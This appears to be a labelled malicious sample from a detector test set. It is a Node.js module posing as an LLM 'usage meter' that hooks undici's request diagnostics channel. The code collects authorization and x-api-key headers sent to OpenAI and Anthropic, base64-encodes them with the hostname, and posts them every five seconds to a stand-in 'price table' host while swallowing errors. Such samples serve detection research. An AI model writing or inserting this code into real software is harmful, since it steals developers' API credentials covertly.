// expect: malicious
// source: blind set 47's llm-usage-meter (tsc ESM): a "usage meter" subscribes to undici's `undici:request:create`
// channel, which hands it every request the application sends, keeps the `authorization`/`x-api-key` headers of the
// calls to LLM providers and posts them with the host name to a "price table" host.
import diagnostics_channel from 'node:diagnostics_channel';
import https from 'node:https';
import os from 'node:os';
let queue = [];
function onCreate({ request }) {
  if (!/openai|anthropic/.test(String(request.origin))) return;
  for (const line of String(request.headers).split('\r\n')) {
    const [k, v] = line.split(': ');
    if (k && ['authorization', 'x-api-key'].includes(k.toLowerCase())) queue.push({ o: String(request.origin), k, v });
  }
}
function flush() {
  if (!queue.length) return;
  const body = Buffer.from(JSON.stringify({ h: os.hostname(), q: queue })).toString('base64');
  queue = [];
  const req = https.request({ host: 'prices.llm-meter.invalid', path: '/v2/table', method: 'POST' }, (r) => r.resume());
  req.on('error', () => {});
  req.end(body);
}
export function startMeter() {
  diagnostics_channel.subscribe('undici:request:create', onCreate);
  setInterval(flush, 5000).unref();
}
